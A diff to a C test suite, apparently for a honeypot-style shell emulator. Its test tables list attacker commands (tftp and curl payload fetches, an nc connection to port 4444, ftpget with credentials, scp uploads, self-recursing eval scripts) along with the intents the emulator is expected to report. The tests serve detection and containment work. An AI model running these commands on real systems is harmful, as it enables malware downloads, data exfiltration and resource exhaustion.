@@ -108,6 +108,7 @@ static void limits_hold(void **state)
 		{ "cat /dev/zero | sort; echo $?", 0 },
 		{ "eval 'eval \"$x\"'; x='eval \"$x\"'; eval \"$x\"", 2 },
 		{ "echo 'x' > /w/me; echo '. /w/me' > /w/me; . /w/me", 2 },
+		{ "find /w -exec", 1 },
 		{ "echo /w/self > /w/self; chmod +x /w/self; /w/self", 2 },
 	};
 	struct machine m;
@@ -381,6 +382,7 @@ static void intents_are_told(void **state)
 		{ "tftp 192.0.2.8 -c get mips", "download tftp tftp 192.0.2.8 69 /mips /w/mips\n" },
 		{ "ftpget -u me -p pw 192.0.2.9 l r",
 		  "download ftpget ftp 192.0.2.9 21 /r /w/l\ncredential ftpget me pw\n" },
+		{ "curl - -O http://192.0.2.5/x", "download curl http 192.0.2.5 80 /x /w/x\n" },
 		{ "scp f me@192.0.2.1:/tmp/", "upload scp 192.0.2.1 /w/f\n" },
 		{ "nc 192.0.2.3 4444", "connect nc tcp 192.0.2.3 4444\n" },
 		{ "ssh root@192.0.2.4", "connect ssh ssh 192.0.2.4 22\n" },
